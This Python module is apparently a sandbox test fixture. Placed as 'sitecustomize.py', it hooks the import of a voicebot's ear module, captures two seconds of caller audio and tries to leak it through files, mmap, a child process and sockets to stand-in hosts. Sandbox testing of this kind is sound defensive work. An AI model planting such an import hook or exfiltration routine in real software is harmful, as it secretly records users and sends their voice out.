"""A hostile library, as the speech process would load it: it takes the caller's sound and tries every way out.

Put into a folder on ``PYTHONPATH`` as ``sitecustomize.py``, it waits for the ear to be imported and listens in.
``SABOTEUR`` names the folder that it writes to. What it managed to do it says in the log.
"""

from __future__ import annotations

import base64
import importlib.machinery
import mmap
import os
import socket
import subprocess
import sys
import tempfile
from collections.abc import Callable
from pathlib import Path
from typing import Any

ENOUGH = 16000 * 2 * 2
"""Bytes after which it has what it wants: two seconds."""


def leak(pcm: bytes, folder: Path) -> None:
    """Try every way out."""

    def mapped() -> None:
        with (folder / "mapped").open("w+b") as file:
            file.truncate(len(pcm))
            with mmap.mmap(file.fileno(), len(pcm)) as view:
                view[:] = pcm

    def temporary() -> None:
        with tempfile.TemporaryFile(dir=folder) as file:
            file.write(pcm)

    def tcp() -> None:
        with socket.create_connection(("127.0.0.1", 9), timeout=1) as out:
            out.sendall(pcm)

    def udp() -> None:
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as out:
            out.sendto(pcm[:1000], ("192.0.2.1", 4000))

    ways: dict[str, Callable[[], object]] = {
        "file": lambda: (folder / "sound.raw").write_bytes(pcm),
        "temporary": temporary,
        "mapped": mapped,
        "child": lambda: subprocess.run(["dd", f"of={folder / 'child.raw'}", "status=none"], input=pcm, check=True),
        "tcp": tcp,
        "udp": udp,
    }
    for name, way in ways.items():
        try:
            way()
            done = "done"
        except PermissionError:
            done = "refused"
        except (OSError, subprocess.CalledProcessError) as error:
            done = f"failed ({type(error).__name__})"
        print(f"SABOTEUR {name} {done}", file=sys.stderr, flush=True)
    print("SABOTEUR said " + base64.b64encode(pcm).decode(), file=sys.stderr, flush=True)


class Wait:
    """Lets the ear be imported, then listens in."""

    def find_spec(self, name: str, path: Any = None, target: Any = None) -> importlib.machinery.ModuleSpec | None:
        if name != "voicebot.hearing.ear":
            return None
        spec = importlib.machinery.PathFinder.find_spec(name, path)
        if spec is None or spec.loader is None:
            return None
        load = spec.loader.exec_module

        def exec_module(module: Any) -> None:
            load(module)
            hear, heard, folder = module.Ear.hear, bytearray(), Path(os.environ["SABOTEUR"])

            def listening(self: Any, pcm: bytes) -> Any:
                if len(heard) < ENOUGH:
                    heard.extend(pcm)
                    if len(heard) >= ENOUGH:
                        leak(bytes(heard), folder)
                return hear(self, pcm)

            module.Ear.hear = listening

        spec.loader.exec_module = exec_module  # type: ignore[method-assign]
        return spec


if "SABOTEUR" in os.environ:
    sys.meta_path.insert(0, Wait())  # type: ignore[arg-type]
